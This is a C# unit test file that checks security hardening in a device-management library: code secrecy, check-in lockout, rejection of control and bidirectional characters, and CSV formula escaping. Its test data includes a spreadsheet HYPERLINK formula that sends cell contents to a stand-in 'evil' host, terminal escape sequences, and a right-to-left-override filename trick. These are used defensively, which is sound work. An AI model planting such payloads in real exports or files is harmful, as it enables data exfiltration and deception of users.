using System;
using BizMobileGo.Core.CheckIn;
using BizMobileGo.Core.Devices;
using BizMobileGo.Core.Errors;
using BizMobileGo.Core.Export;
using BizMobileGo.Core.Fields;
using BizMobileGo.Core.Import;
using BizMobileGo.Core.Tests.Import;
using Xunit;

namespace BizMobileGo.Core.Tests.Reliability
{
    /// <summary>Issue 9, points 8, 9, 10, 11 and 16: codes stay secret, check-in guessing is stopped, text is plain text, exports are inert in spreadsheets, serials follow one rule.</summary>
    public class NamesCodesTextTests : IDisposable
    {
        private readonly StoreFixture _fx = new StoreFixture();

        public void Dispose() => _fx.Dispose();

        private DateTimeOffset Soon => StoreFixture.T0.AddHours(1);

        // ---- 9.8 ----

        [Fact]
        public void Point_9_8_a_rejected_check_in_targets_the_identifier_not_the_device_with_its_code()
        {
            _fx.ImportOk(StoreFixture.Csv("Identifier,OS,Code,WifiMac", "SECRET1,ios,Hidden123,00:11:22:33:44:55"));
            var e = Assert.Throws<BmgException>(() => CheckInService.CheckIn(_fx.Store,
                new CheckInReport { Identifier = "SECRET1", Code = "Hidden123", WifiMac = "00:11:22:33:44:66" }, Soon));
            Assert.Equal(ErrorIds.CheckInRejected, e.ErrorId);
            Assert.Equal("SECRET1", e.Target);
            Assert.DoesNotContain("Hidden123", e.Message, StringComparison.Ordinal);
        }

        [Fact]
        public void Point_9_8_no_error_carries_a_device_as_its_target()
        {
            var e = new BmgException(ErrorIds.DeviceLocked, BmgErrorCategory.InvalidOperation, "locked", new Device { Identifier = "D1", PlainCode = "Secret99" });
            Assert.Equal("D1", e.Target);
        }

        [Fact]
        public void Point_9_8_a_changed_code_shows_as_changed_and_a_bad_code_is_not_echoed()
        {
            _fx.ImportOk(StoreFixture.Csv("Identifier,OS,Code", "CODE1,ios,OldCode11"));
            ImportOutcome changed = _fx.ImportOk(StoreFixture.Csv("Identifier,OS,Code", "CODE1,ios,NewCode22"));
            string changes = changed.Line(2).Changes;
            Assert.Equal("Code: 'changed'", changes);
            Assert.DoesNotContain("OldCode11", changes, StringComparison.Ordinal);

            ImportOutcome typo = _fx.Import(StoreFixture.Csv("Identifier,OS,Code", "CODE1,ios,NewCode2!"));
            string error = typo.Line(2).Error!;
            Assert.Contains("Code value is not valid", error, StringComparison.Ordinal);
            Assert.DoesNotContain("NewCode2", error, StringComparison.Ordinal);
            Assert.Null(typo.Line(2).GetErrors()[0].Value);
            foreach (ImportHistoryEntry entry in _fx.Store.GetImportHistory(null))
            {
                foreach (var row in entry.Errors)
                {
                    Assert.DoesNotContain("NewCode2", row.Message, StringComparison.Ordinal);
                }
            }
        }

        // ---- 9.9 ----

        [Fact]
        public void Point_9_9_five_wrong_codes_within_15_minutes_lock_the_identifier_even_against_the_right_code()
        {
            _fx.ImportOk(StoreFixture.Csv("Identifier,OS,Code", "LOCK1,ios,Right777"));
            for (int i = 0; i < CheckInService.MaxFailedCheckIns; i++)
            {
                var wrong = Assert.Throws<BmgException>(() => CheckInService.CheckIn(_fx.Store, new CheckInReport { Identifier = "lock1", Code = "Wrong" + i }, Soon.AddMinutes(i)));
                Assert.Equal(ErrorIds.CheckInRejected, wrong.ErrorId);
            }

            var locked = Assert.Throws<BmgException>(() => CheckInService.CheckIn(_fx.Store, new CheckInReport { Identifier = "LOCK1", Code = "Right777" }, Soon.AddMinutes(5)));
            Assert.Equal(ErrorIds.CheckInLockedOut, locked.ErrorId);
            Assert.Equal(DeviceState.Registered, _fx.Device("LOCK1").State);
            Assert.Equal(1, _fx.Store.CountCheckInFailures("LOCK1", Soon, ErrorIds.CheckInLockedOut));

            // 15 minutes after the first failure only four are inside the window: the right code is accepted.
            Device device = CheckInService.CheckIn(_fx.Store, new CheckInReport { Identifier = "LOCK1", Code = "Right777" }, Soon.AddMinutes(15).AddSeconds(1));
            Assert.Equal(DeviceState.CheckedIn, device.State);
        }

        [Fact]
        public void Point_9_9_an_unknown_identifier_answers_and_locks_exactly_as_a_wrong_code_does()
        {
            _fx.ImportOk(StoreFixture.Csv("Identifier,OS,Code", "REAL1,ios,Right777"));
            for (int i = 0; i <= CheckInService.MaxFailedCheckIns; i++)
            {
                var real = Assert.Throws<BmgException>(() => CheckInService.CheckIn(_fx.Store, new CheckInReport { Identifier = "REAL1", Code = "Bad" }, Soon));
                var ghost = Assert.Throws<BmgException>(() => CheckInService.CheckIn(_fx.Store, new CheckInReport { Identifier = "GHOST", Code = "Bad" }, Soon));
                Assert.Equal(real.ErrorId, ghost.ErrorId);
                Assert.Equal(real.Category, ghost.Category);
                Assert.Equal(real.Message.Replace("REAL1", "GHOST"), ghost.Message);
            }
        }

        [Theory]
        [InlineData("Abc123", "Abc123", true)]
        [InlineData("Abc123", "Abc124", false)]
        [InlineData("Abc123", "Abc12", false)]
        [InlineData("Abc123", "Abc1234", false)]
        [InlineData("Abc123", "", false)]
        public void Point_9_9_codes_are_compared_in_fixed_time_and_exactly(string stored, string given, bool equal)
        {
            Assert.Equal(equal, CheckInCode.FixedTimeEquals(stored, given));
        }

        [Fact]
        public void Point_9_9_a_code_under_six_characters_is_valid_with_a_warning_that_does_not_show_it()
        {
            ImportOutcome outcome = _fx.ImportOk(StoreFixture.Csv("Identifier,OS,Code", "SHORT1,ios,123", "LONG1,ios,Abcdef"));
            string warning = Assert.Single(outcome.Line(2).GetWarnings());
            Assert.Contains("3 characters", warning, StringComparison.Ordinal);
            Assert.DoesNotContain("'123'", warning, StringComparison.Ordinal);
            Assert.Empty(outcome.Line(3).GetWarnings());
            Assert.Equal("123", _fx.Device("SHORT1").PlainCode);
        }

        // ---- 9.10 ----

        [Theory]
        [InlineData("a\u001b]0;title\u0007", "control characters")]
        [InlineData("back\bspace", "control characters")]
        [InlineData("c1\u009bcontrol", "control characters")]
        [InlineData("del\u007f", "control characters")]
        [InlineData("tab\tin a name", "control characters")]
        [InlineData("evil\u202Etxt.exe", "bidirectional")]
        [InlineData("iso\u2066late", "bidirectional")]
        public void Point_9_10_the_one_text_rule_refuses_controls_bidi_overrides_and_lone_surrogates_in_names(string text, string rule)
        {
            Assert.Contains(rule, FieldText.ForbiddenCharacterRule(text), StringComparison.Ordinal);
            Assert.False(BoundedText.TryParse(text, BoundedText.NameMaxLength, out _, out _));
            Assert.False(UserName.TryParse(text, out _, out _));
            Assert.False(NameList.TryParse(text, out _, out _));
            Assert.False(EmailAddress.TryParse("a@" + text + ".example", out _, out _));
        }

        [Theory]
        [InlineData(0xD800, "high")]
        [InlineData(0xDBFF, "end")]
        [InlineData(0xDC00, "low")]
        public void Point_9_10_the_one_text_rule_refuses_lone_surrogates_in_every_text_field(int surrogate, string after)
        {
            // Built here: a lone surrogate in an attribute would not survive the test runner's serialization.
            string text = "lone" + (char)surrogate + after;
            Assert.Contains("valid Unicode", FieldText.ForbiddenCharacterRule(text), StringComparison.Ordinal);
            Assert.Contains("valid Unicode", FieldText.ForbiddenCharacterRule(text, allowTabAndLineBreaks: true), StringComparison.Ordinal);
            Assert.False(BoundedText.TryParse(text, BoundedText.DescriptionMaxLength, out _, out _, multiLine: true));
            Assert.False(UserName.TryParse(text, out _, out _));
            Assert.False(NameList.TryParse("ok|" + text, out _, out _));
            Assert.Equal("lone<U+" + surrogate.ToString("X4") + ">" + after, FieldText.Printable(text));
        }

        [Fact]
        public void Point_9_10_descriptions_allow_tab_and_line_breaks_and_surrogate_pairs_names_allow_pairs_only()
        {
            Assert.True(BoundedText.TryParse("line one\r\n\tline two", BoundedText.DescriptionMaxLength, out string value, out _, multiLine: true));
            Assert.Equal("line one\r\n\tline two", value);
            Assert.False(BoundedText.TryParse("a\u001bb", BoundedText.DescriptionMaxLength, out _, out _, multiLine: true));
            Assert.True(UserName.TryParse("吉田𠮷", out _, out _));
        }

        [Fact]
        public void Point_9_10_a_refused_value_names_field_and_line_and_echoes_no_raw_control_character()
        {
            ImportOutcome outcome = _fx.Import(StoreFixture.Csv("Identifier,OS,DisplayName", "OK1,ios,fine", "BAD1,ios,x\u001b]0;owned\u0007"));
            string error = outcome.Line(3).Error!;
            Assert.Contains("DisplayName", error, StringComparison.Ordinal);
            Assert.Contains("U+001B", error, StringComparison.Ordinal);
            Assert.DoesNotContain("\u001b", error, StringComparison.Ordinal);
            Assert.DoesNotContain("\u0007", error, StringComparison.Ordinal);
        }

        // ---- 9.11 ----

        [Theory]
        [InlineData("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")")]
        [InlineData("+1", "'+1")]
        [InlineData("-2", "'-2")]
        [InlineData("@SUM(A1)", "'@SUM(A1)")]
        [InlineData("\tx", "'\tx")]
        [InlineData("\rx", "'\rx")]
        [InlineData("'=x", "''=x")]
        [InlineData("''+x", "'''+x")]
        [InlineData("'abc", "'abc")]
        [InlineData("'", "'")]
        [InlineData("a=b", "a=b")]
        [InlineData("", "")]
        public void Point_9_11_the_formula_escape_adds_one_apostrophe_and_the_import_removes_exactly_it(string value, string escaped)
        {
            Assert.Equal(escaped, FormulaEscape.Escape(value));
            Assert.Equal(value, FormulaEscape.Unescape(escaped));
        }

        [Fact]
        public void Point_9_11_an_export_escapes_by_default_writes_raw_on_request_and_imports_back_unchanged()
        {
            _fx.ImportOk(StoreFixture.Csv("Identifier,OS,DisplayName,Description",
                "FX1,ios,\"=HYPERLINK(\"\"http://evil/?c=\"\"&H2,\"\"Open\"\")\",-minus",
                "FX2,ios,''=already quoted,@at"));
            Assert.Equal("'=already quoted", _fx.Device("FX2").DisplayName);
            var escaped = new System.IO.StringWriter();
            new DeviceCsvExport(_fx.Store).Write(escaped);
            Assert.Contains("\"'=HYPERLINK(", escaped.ToString(), StringComparison.Ordinal);
            Assert.Contains(",'-minus,", escaped.ToString(), StringComparison.Ordinal);
            Assert.Contains(",''=already quoted,'@at,", escaped.ToString(), StringComparison.Ordinal);

            ImportOutcome back = _fx.ImportOk(escaped.ToString());
            Assert.All(back.Rows, row => Assert.Equal(RecordAction.Unchanged, row.Outcome));

            var raw = new System.IO.StringWriter();
            new DeviceCsvExport(_fx.Store).Write(raw, escapeFormulas: false);
            Assert.Contains("\"=HYPERLINK(", raw.ToString(), StringComparison.Ordinal);
            Assert.Contains(",-minus,", raw.ToString(), StringComparison.Ordinal);
        }

        // ---- 9.16 ----

        [Theory]
        [InlineData("abcdefghſſ")]
        [InlineData("abcdefghıı")]
        [InlineData("ＡＢＣＤＥＦＧＨＳＳ")]
        [InlineData("abcdefghſ*")]
        public void Point_9_16_a_serial_lookup_with_non_ascii_look_alikes_is_refused_by_the_serial_rule(string text)
        {
            Assert.False(AppleSerial.TryParseLookup(text, out _, out _, out string? rule));
            Assert.NotNull(rule);
        }

        [Theory]
        [InlineData("abcdefghss", "ABCDEFGHSS", false)]
        [InlineData(" c02xk1abjg5h ", "C02XK1ABJG5H", false)]
        [InlineData("c02*", "C02*", true)]
        [InlineData("C02XK1ABJG5[GH]", "C02XK1ABJG5[GH]", true)]
        public void Point_9_16_a_serial_lookup_is_upper_cased_the_ascii_way(string text, string expected, bool isPattern)
        {
            Assert.True(AppleSerial.TryParseLookup(text, out string value, out bool pattern, out _));
            Assert.Equal(expected, value);
            Assert.Equal(isPattern, pattern);
        }
    }
}
